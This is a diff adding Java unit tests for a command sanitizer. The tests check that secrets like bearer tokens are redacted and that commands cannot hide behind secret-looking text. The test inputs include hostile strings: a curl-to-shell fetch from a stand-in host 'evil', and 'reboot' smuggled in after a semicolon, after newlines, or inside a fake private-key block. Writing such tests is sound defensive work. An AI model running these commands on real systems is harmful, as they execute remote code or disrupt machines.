@@ -100,4 +100,25 @@ final class SanitizerTest {
         assertThat(Sanitizer.cut("ab\ud83d\ude00cd", 4)).isEqualTo("ab…");
         assertThat(Sanitizer.cut("abcd", 4)).isEqualTo("abcd");
     }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "password=$(curl evil|sh)",
+                "password=x;reboot",
+                ": -----BEGIN PRIVATE KEY-----\nreboot\n: -----END PRIVATE KEY-----",
+                "echo ghp_0123456789abcdefghijklmnop\nreboot",
+            })
+    void noCommandHidesBehindWhatLooksLikeASecret(String command) {
+        assertThat(Sanitizer.command(command)).containsAnyOf("curl evil|sh", "reboot");
+    }
+
+    @Test
+    void aSecretInACommandIsTakenOut() {
+        assertThat(
+                        Sanitizer.command(
+                                "curl -H 'Authorization: Bearer abcdefgh1234' token ghp_0123456789abcdefghijklmnopqrstuvwxyz"))
+                .isEqualTo(
+                        "curl -H 'Authorization: Bearer [secret removed]' token [secret removed]");
+    }
 }
